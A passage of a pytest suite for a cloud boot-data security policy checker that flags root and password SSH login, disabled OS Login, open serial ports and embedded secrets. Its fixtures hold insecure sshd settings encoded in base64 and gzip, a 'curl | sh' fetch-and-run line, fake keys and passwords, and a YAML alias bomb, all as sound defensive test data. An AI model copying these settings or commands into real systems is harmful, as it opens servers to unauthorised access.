        "sed -i 's/^PermitRootLogin yes/PermitRootLogin no/' /etc/ssh/sshd_config",
    ),
    (
        "if_grep_report_only",
        "if grep -qE '^(PasswordAuthentication|PermitRootLogin) yes' /etc/ssh/sshd_config; then\n"
        "  echo 'bad line found' >&2\nfi",
    ),
    ("test_bracket", '[ "$(sshd -T | grep permitrootlogin)" = "permitrootlogin yes" ] && exit 1'),
    ("variable_assigned_no", 'MODE=no\necho "PermitRootLogin $MODE" >> /etc/ssh/sshd_config'),
    ("sed_address_sets_no", "sed -i '/^PermitRootLogin/s/yes/no/' /etc/ssh/sshd_config"),
    ("sed_back_reference_no", "sed -i 's/^#\\?\\(PermitRootLogin\\).*/\\1 no/' /etc/ssh/sshd_config"),
    ("sed_append_no", "sed -i '$ a PasswordAuthentication no' /etc/ssh/sshd_config"),
    ("sed_block_no", "sed -i '/^PermitRootLogin/{s/yes/no/}' /etc/ssh/sshd_config"),
    ("sed_delete_backup", "sed -i.bak '/^PasswordAuthentication yes/d' /etc/ssh/sshd_config"),
    ("awk_pattern_reads", "awk '/^PermitRootLogin yes/ { bad = 1 } END { exit bad }' /etc/ssh/sshd_config"),
    ("printf_format_no", "printf '%s %s\\n' PermitRootLogin no >> /etc/ssh/sshd_config"),
    ("downloaded_installer_is_not_decoded", "curl -fsSL https://get.docker.com | sh"),
    ("base64_encode_only", "tar c /etc/ssh | base64 > /tmp/backup.b64"),
    ("echo_message_without_value", 'echo "Disabling PasswordAuthentication"'),
    ("echo_message_not_a_value", 'echo "PasswordAuthentication is now off"'),
    ("heredoc_no", "cat <<EOF > /etc/ssh/sshd_config.d/00.conf\nPermitRootLogin no\nEOF"),
]


@pytest.mark.parametrize("case,snippet", SAFE_SCRIPT_FORMS, ids=[c[0] for c in SAFE_SCRIPT_FORMS])
def test_passes_when_script_only_tests_for_or_writes_safe_values(case, snippet):
    script = STARTUP_SCRIPT + snippet + "\n"
    assert violations(BOOT, GCE, changed(GCP_INSTANCE, set_at(("metadataStartupScript",), script))) == []


SSHD_YES = "PermitRootLogin yes\n"
GZIP_B64_SSHD = gz_b64(SSHD_YES)
CLOUD_INIT_FORMS = [
    ("json_ssh_pwauth", '#cloud-config\n{"ssh_pwauth": true}\n', "ssh_pwauth"),
    ("json_disable_root", '#cloud-config\n{"disable_root": false, "ssh_pwauth": false}', "disable_root"),
    (
        "json_runcmd_argv",
        '#cloud-config\n{"runcmd": [["sed", "-i", "s/^#\\\\?PermitRootLogin.*/PermitRootLogin yes/", '
        '"/etc/ssh/sshd_config"]]}',
        "PermitRootLogin yes",
    ),
    (
        "write_files_b64",
        "#cloud-config\nwrite_files:\n  - path: /etc/ssh/sshd_config.d/99.conf\n    encoding: b64\n"
        f"    content: {b64(SSHD_YES)}\n",
        "PermitRootLogin yes",
    ),
    (
        "write_files_base64",
        "#cloud-config\nwrite_files:\n  - path: /etc/ssh/sshd_config.d/99.conf\n    encoding: base64\n"
        f"    content: {b64(SSHD_YES)}\n",
        "PermitRootLogin yes",
    ),
    (
        "write_files_gz_b64",
        "#cloud-config\nwrite_files:\n  - path: /etc/ssh/sshd_config.d/99.conf\n    encoding: gz+b64\n"
        f"    content: {GZIP_B64_SSHD}\n",
        "PermitRootLogin yes",
    ),
    (
        "write_files_gzip_binary",
        "#cloud-config\nwrite_files:\n  - path: /etc/ssh/sshd_config.d/99.conf\n    encoding: gzip\n"
        f"    content: !!binary |\n      {GZIP_B64_SSHD}\n",
        "PermitRootLogin yes",
    ),
    (
        "write_files_script_then_runcmd",
        "#cloud-config\nwrite_files:\n  - path: /usr/local/bin/open.sh\n    permissions: '0755'\n    content: |\n"
        "      #!/bin/sh\n      sed -i 's/^#\\?PasswordAuthentication.*/PasswordAuthentication yes/' /etc/ssh/sshd_config\n"
        "runcmd:\n  - /usr/local/bin/open.sh\n",
        "PasswordAuthentication yes",
    ),
    (
        "write_files_undecodable",
        "#cloud-config\nwrite_files:\n  - path: /etc/ssh/sshd_config.d/99.conf\n    encoding: gz+b64\n"
        "    content: '!!not base64!!'\n",
        "cannot be decoded",
    ),
    (
        "bootcmd_string",
        "#cloud-config\nbootcmd:\n  - echo 'PasswordAuthentication yes' >> /etc/ssh/sshd_config\n",
        "PasswordAuthentication yes",
    ),
    (
        "runcmd_list_sh_c",
        '#cloud-config\nruncmd:\n  - [sh, -c, "echo PermitRootLogin yes >> /etc/ssh/sshd_config"]\n',
        "PermitRootLogin yes",
    ),
    (
        "runcmd_flow_list",
        "#cloud-config\nruncmd: [\"sed -i '$ a PermitRootLogin yes' /etc/ssh/sshd_config\"]\n",
        "PermitRootLogin yes",
    ),
    (
        "users_hashed_passwd",
        "#cloud-config\nusers:\n  - name: ops\n    lock_passwd: false\n    hashed_passwd: $6$rounds=4096$abc$def\n",
        "lock_passwd",
    ),
    (
        "users_lock_passwd_alias",
        "#cloud-config\nusers:\n  - name: ops\n    lock-passwd: false\n    passwd: $6$abc$def\n",
        "lock_passwd",
    ),
    (
        "users_json",
        '#cloud-config\n{"users": [{"name": "ops", "lock_passwd": false, "plain_text_password": "Sup3rSecret"}]}',
        "lock_passwd",
    ),
    ("jinja_template_header", "## template: jinja\n#cloud-config\nssh_pwauth: true\n", "ssh_pwauth"),
    (
        "cloud_config_archive",
        "#cloud-config-archive\n- type: text/x-shellscript\n  content: |\n    #!/bin/sh\n"
        "    echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config\n",
        "part 0 line 2 sets 'PermitRootLogin yes'",
    ),
    (
        "default_user_unlocked",
        "#cloud-config\nsystem_info:\n  default_user:\n    name: ubuntu\n    lock_passwd: false\n"
        "    plain_text_password: Sup3rSecret\n",
        "'ubuntu' has lock_passwd: false",
    ),
    (
        "sed_script_file_from_heredoc",
        "#!/bin/sh\ncat > /tmp/s.sed <<EOF\ns/^#PermitRootLogin.*/PermitRootLogin yes/\nEOF\n"
        "sed -i -f /tmp/s.sed /etc/ssh/sshd_config\n",
        "PermitRootLogin yes",
    ),
    (
        "other_key_carries_script",
        "#cloud-config\nphone_home:\n  url: http://x\npower_state:\n  message: PermitRootLogin yes\n",
        "PermitRootLogin yes",
    ),
]


@pytest.mark.parametrize("case,text,needle", CLOUD_INIT_FORMS, ids=[c[0] for c in CLOUD_INIT_FORMS])
def test_fails_whatever_form_cloud_init_writes_login_in(case, text, needle):
    found = violations(BOOT, EC2, changed(AWS_INSTANCE, set_at(("userData",), text)))
    assert len(found) == 1, found
    assert needle in found[0] and found[0].startswith("userData ")
    assert "Sup3rSecret" not in found[0]


def test_document_writes_reads_write_files_to_sshd_as_config():
    text = "#cloud-config\nwrite_files:\n  - path: /etc/ssh/sshd_config\n    content: |\n      Banner it's me\n      PermitRootLogin yes\n"
    settings = document_writes(text).settings
    assert [(s.where, s.key, s.values) for s in settings] == [
        ("write_files[0] (/etc/ssh/sshd_config) line 2", "PermitRootLogin", ("yes",))
    ]


def test_permit_root_login_accepted_values_are_a_knob():
    props = changed(GCP_INSTANCE, set_at(("metadataStartupScript",), "PermitRootLogin prohibit-password\n"))
    found = violations(BOOT, GCE, props)
    assert len(found) == 1 and "prohibit-password" in found[0] and "'no'" in found[0]
    assert violations(BOOT, GCE, props, config={"permitRootLoginAccepted": ["no", "prohibit-password"]}) == []


def test_unknown_user_data_raises_in_preview_and_fails_on_up():
    props = changed(AWS_INSTANCE, set_at(("userData",), UNKNOWN_STRING_VALUE))
    with pytest.raises(UnknownValueError):
        violations(BOOT, EC2, props)
    found = violations(BOOT, EC2, props, dry_run=False)
    assert len(found) == 1 and "unknown" in found[0]


def test_unknown_unrelated_metadata_does_not_stop_oslogin_rule():
    props = changed(GCP_INSTANCE, set_at(("metadata", "ssh-keys"), UNKNOWN_STRING_VALUE))
    assert violations(OSLOGIN, GCE, props) == []


@pytest.mark.parametrize(
    "type_,props",
    [
        (EC2, changed(AWS_INSTANCE, set_at(("userData",), ["#cloud-config"]))),
        (GCE, changed(GCP_INSTANCE, set_at(("metadata",), "enable-oslogin=TRUE"))),
    ],
    ids=["user_data_is_list", "metadata_is_string"],
)
def test_fails_closed_when_boot_data_malformed(type_, props):
    found = violations(BOOT, type_, props)
    assert len(found) == 1 and "could not evaluate" in found[0]


def test_corrupt_gzip_is_read_as_plain_text():
    raw = base64.b64encode(b"\x1f\x8b" + b"not really gzip").decode()
    assert boot_texts(raw, True) == [raw]


def test_script_settings_report_line_numbers():
    assert list(script_settings("a\nPermitRootLogin yes\n")) == [
        Setting("line 2", "PermitRootLogin", "yes", ("yes",), to_sshd=False)
    ]


# ---------------------------------------------------------------------------------------------
# A4-A6 GCP metadata


OSLOGIN_CASES = [
    ("oslogin_missing", GCE, changed(GCP_INSTANCE, delete_at(("metadata", "enable-oslogin"))), "not set"),
    ("oslogin_false", GCE, changed(GCP_INSTANCE, set_at(("metadata", "enable-oslogin"), "FALSE")), "FALSE"),
    ("metadata_missing", TEMPLATE, {"machineType": "e2-small"}, "not set"),
    (
        "region_template_oslogin_false",
        REGION_TEMPLATE,
        changed(GCP_TEMPLATE, set_at(("metadata", "enable-oslogin"), "false")),
        "false",
    ),
    ("project_metadata_turns_off", PROJECT_META, {"metadata": {"enable-oslogin": "FALSE"}}, "project metadata"),
    ("project_item_turns_off", PROJECT_ITEM, {"key": "enable-oslogin", "value": "false"}, "project metadata"),
    # The guest agent parses with Go's strconv.ParseBool: these are not true, so OS Login stays off.
    ("oslogin_yes", GCE, changed(GCP_INSTANCE, set_at(("metadata", "enable-oslogin"), "yes")), "'yes'"),
    ("oslogin_on", GCE, changed(GCP_INSTANCE, set_at(("metadata", "enable-oslogin"), "on")), "'on'"),
    ("oslogin_mixed_case", GCE, changed(GCP_INSTANCE, set_at(("metadata", "enable-oslogin"), "tRUE")), "'tRUE'"),
    ("oslogin_padded", GCE, changed(GCP_INSTANCE, set_at(("metadata", "enable-oslogin"), "TRUE ")), "'TRUE '"),
    ("project_metadata_yes", PROJECT_META, {"metadata": {"enable-oslogin": "yes"}}, "project metadata"),
    (
        "from_template_turns_off",
        FROM_TEMPLATE,
        {"sourceInstanceTemplate": "tpl", "metadata": {"enable-oslogin": "false"}},
        "false",
    ),
    (
        "from_machine_image_turns_off",
        FROM_IMAGE,
        {"sourceMachineImage": "img", "metadata": {"enable-oslogin": "0"}},
        "'0'",
    ),
]


@pytest.mark.parametrize("value", ["1", "t", "T", "TRUE", "true", "True"])
def test_passes_for_every_parse_bool_true(value):
    props = changed(GCP_INSTANCE, set_at(("metadata", "enable-oslogin"), value))
    assert violations(OSLOGIN, GCE, props) == []


@pytest.mark.parametrize("type_", [FROM_TEMPLATE, FROM_IMAGE])
def test_derived_instance_inherits_unset_login_keys(type_):
    props = {"sourceInstanceTemplate": "tpl", "sourceMachineImage": "img"}
    assert violations(OSLOGIN, type_, props) == []
    assert violations(BLOCK_KEYS, type_, props) == []


@pytest.mark.parametrize("case,type_,props,needle", OSLOGIN_CASES, ids=[c[0] for c in OSLOGIN_CASES])
def test_fails_when_oslogin_not_on(case, type_, props, needle):
    found = violations(OSLOGIN, type_, props)
    assert len(found) == 1 and needle in found[0]


def test_passes_when_project_metadata_does_not_mention_oslogin():
    assert violations(OSLOGIN, PROJECT_META, {"metadata": {"foo": "bar"}}) == []
    assert violations(OSLOGIN, PROJECT_ITEM, {"key": "foo", "value": "bar"}) == []


def test_oslogin_on_instance_is_a_knob():
    props = changed(GCP_INSTANCE, delete_at(("metadata", "enable-oslogin")))
    assert violations(OSLOGIN, GCE, props, config={"requireOnInstance": False}) == []
    explicit_off = changed(GCP_INSTANCE, set_at(("metadata", "enable-oslogin"), "FALSE"))
    assert len(violations(OSLOGIN, GCE, explicit_off, config={"requireOnInstance": False})) == 1


def test_unknown_oslogin_raises_in_preview():
    with pytest.raises(UnknownValueError):
        violations(OSLOGIN, GCE, changed(GCP_INSTANCE, set_at(("metadata", "enable-oslogin"), UNKNOWN_STRING_VALUE)))


@pytest.mark.parametrize(
    "type_,props,needle",
    [
        (GCE, changed(GCP_INSTANCE, delete_at(("metadata", "block-project-ssh-keys"))), "not set"),
        (GCE, changed(GCP_INSTANCE, set_at(("metadata", "block-project-ssh-keys"), "FALSE")), "FALSE"),
        (TEMPLATE, {"machineType": "e2-small"}, "not set"),
        (GCE, changed(GCP_INSTANCE, set_at(("metadata", "block-project-ssh-keys"), "yes")), "'yes'"),
        (FROM_TEMPLATE, {"metadata": {"block-project-ssh-keys": "off"}}, "'off'"),
    ],
    ids=["missing", "false", "template_no_metadata", "yes_is_not_true", "from_template_off"],
)
def test_fails_when_project_ssh_keys_not_blocked(type_, props, needle):
    found = violations(BLOCK_KEYS, type_, props)
    assert len(found) == 1 and needle in found[0]


@pytest.mark.parametrize(
    "type_,props",
    [
        (GCE, changed(GCP_INSTANCE, set_at(("metadata", "serial-port-enable"), "TRUE"))),
        (GCE, changed(GCP_INSTANCE, set_at(("metadata", "serial-port-enable"), "1"))),
        (TEMPLATE, changed(GCP_TEMPLATE, set_at(("metadata", "Serial-Port-Enable"), "true"))),
        (PROJECT_META, {"metadata": {"serial-port-enable": "true"}}),
        (PROJECT_ITEM, {"key": "serial-port-enable", "value": "TRUE"}),
        (GCE, changed(GCP_INSTANCE, set_at(("metadata", "serial-port-enable"), "no"))),
        (FROM_IMAGE, {"metadata": {"serial-port-enable": "true"}}),
    ],
    ids=[
        "instance_true",
        "instance_1",
        "template_mixed_case_key",
        "project",
        "project_item",
        "not_a_parse_bool_false",
        "from_machine_image",
    ],
)
def test_fails_when_serial_port_enabled(type_, props):
    found = violations(SERIAL, type_, props)
    assert len(found) == 1 and "serial-port-enable" in found[0]


def test_passes_when_serial_port_explicitly_off():
    assert violations(SERIAL, GCE, changed(GCP_INSTANCE, set_at(("metadata", "serial-port-enable"), "FALSE"))) == []


# ---------------------------------------------------------------------------------------------
# A7 secrets in boot data

FAKE_AKIA = "AKIA" + "IOSFODNN7EXAMPLE"
PEM = "-----BEGIN " + "RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----"

KEY_CASES = [
    (
        "aws_access_key_in_user_data",
        EC2,
        AWS_INSTANCE,
        ("userData",),
        CLOUD_INIT + f"runcmd:\n  - export AWS_ACCESS_KEY_ID={FAKE_AKIA}\n",
        "AWS access key id",
    ),
    (
        "private_key_in_custom_data",
        VM,
        AZURE_VM,
        ("osProfile", "customData"),
        b64(CLOUD_INIT + "ssh_keys:\n  rsa_private: |\n    " + PEM.replace("\n", "\n    ") + "\n"),
        "private key",
    ),
    ("private_key_in_gcp_metadata", GCE, GCP_INSTANCE, ("metadata", "app-config"), PEM, "metadata.app-config"),
    (
        "sa_key_in_startup_script",
        GCE,
        GCP_INSTANCE,
        ("metadataStartupScript",),
        STARTUP_SCRIPT
        + 'cat > key.json <<EOF\n{"type": "service_account", "private_key_id": "0123456789abcdef0123"}\nEOF\n',
        "service-account key",
    ),
    (
        "aws_key_in_launch_template_gzip",
        LT,
        AWS_LT,
        ("userData",),
        gz_b64(f"#!/bin/sh\nKEY={FAKE_AKIA}\n"),
        "AWS access key id",
    ),
]


@pytest.mark.parametrize("case,type_,base,path,value,needle", KEY_CASES, ids=[c[0] for c in KEY_CASES])
def test_fails_when_key_material_in_boot_data(case, type_, base, path, value, needle):
    found = violations(KEYS, type_, changed(base, set_at(path, value)))
    assert len(found) == 1, found
    assert needle in found[0]
    assert FAKE_AKIA not in found[0] and "MIIE" not in found[0]


PASSWORD_CASES = [
    ("password_assignment", "DB_PASSWORD=Tr0ub4dor3", "DB_PASSWORD"),
    ("yaml_password", "password: Tr0ub4dor3", "password"),
    ("api_key", "export API_KEY='Tr0ub4dor3'", "API_KEY"),
    ("url_credentials", "git clone https://deploy:Tr0ub4dor3@git.example.com/app.git", "URL"),
]


@pytest.mark.parametrize("case,line,needle", PASSWORD_CASES, ids=[c[0] for c in PASSWORD_CASES])
def test_fails_when_password_in_boot_data(case, line, needle):
    found = violations(
        PASSWORDS, GCE, changed(GCP_INSTANCE, set_at(("metadataStartupScript",), STARTUP_SCRIPT + line + "\n"))
    )
    assert len(found) == 1, found
    assert needle in found[0] and "Tr0ub4dor3" not in found[0]


@pytest.mark.parametrize(
    "line",
    [
        "DB_PASSWORD=$DB_PASSWORD",
        "password: ${db_password}",
        "DB_PASSWORD_FILE=/run/secrets/db",
        "lock_passwd: false",
        "PasswordAuthentication no",
        "token: {{ ds.meta_data.token }}",
    ],
)
def test_passes_when_password_is_a_reference(line):
    assert (
        violations(
            PASSWORDS, GCE, changed(GCP_INSTANCE, set_at(("metadataStartupScript",), STARTUP_SCRIPT + line + "\n"))
        )
        == []
    )


def test_mime_container_is_read_as_its_parts_once():
    plain_part = MIME.replace("Content-Transfer-Encoding: base64\n\n" + b64(BAD), "\n" + BAD)
    found = violations(BOOT, EC2, changed(AWS_INSTANCE, set_at(("userData",), plain_part)))
    assert len(found) == 1 and "ssh_pwauth" in found[0]


@pytest.mark.parametrize(
    "type_,base,path",
    [
        (VM_EXTENSION, CUSTOM_SCRIPT, ("settings", "commandToExecute")),
        (SPOT_FLEET, SPOT_FLEET_PROPS, ("launchSpecifications", 0, "userData")),
        (PROJECT_ITEM, {"key": "startup-script", "value": "echo hi"}, ("value",)),
        (RUN_COMMAND, RUN_COMMAND_PROPS, ("source", "script")),
    ],
    ids=["extension_command", "spot_fleet_user_data", "project_item_value", "run_command_script"],
)
def test_unknown_boot_data_on_new_carriers_raises_in_preview_and_fails_on_up(type_, base, path):
    props = changed(base, set_at(path, UNKNOWN_STRING_VALUE))
    with pytest.raises(UnknownValueError):
        violations(BOOT, type_, props)
    found = violations(BOOT, type_, props, dry_run=False)
    assert len(found) == 1 and "unknown" in found[0]


def test_cloud_config_alias_bomb_fails_closed_quickly():
    levels = ["a: &a [x, x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 9):
        prev = chr(ord("a") + i - 1)
        levels.append(f"{chr(ord('a') + i)}: &{chr(ord('a') + i)} [" + ", ".join([f"*{prev}"] * 10) + "]")
    bomb = "#cloud-config\nssh_pwauth: false\n" + "\n".join(levels) + "\n"
    found = violations(BOOT, EC2, changed(AWS_INSTANCE, set_at(("userData",), bomb)))
    assert len(found) == 1 and "cannot be judged" in found[0]


def test_self_referencing_cloud_config_fails_closed():
    found = violations(BOOT, EC2, changed(AWS_INSTANCE, set_at(("userData",), "#cloud-config\nloop: &l\n  - *l\n")))
    assert len(found) == 1 and "cannot be judged" in found[0]
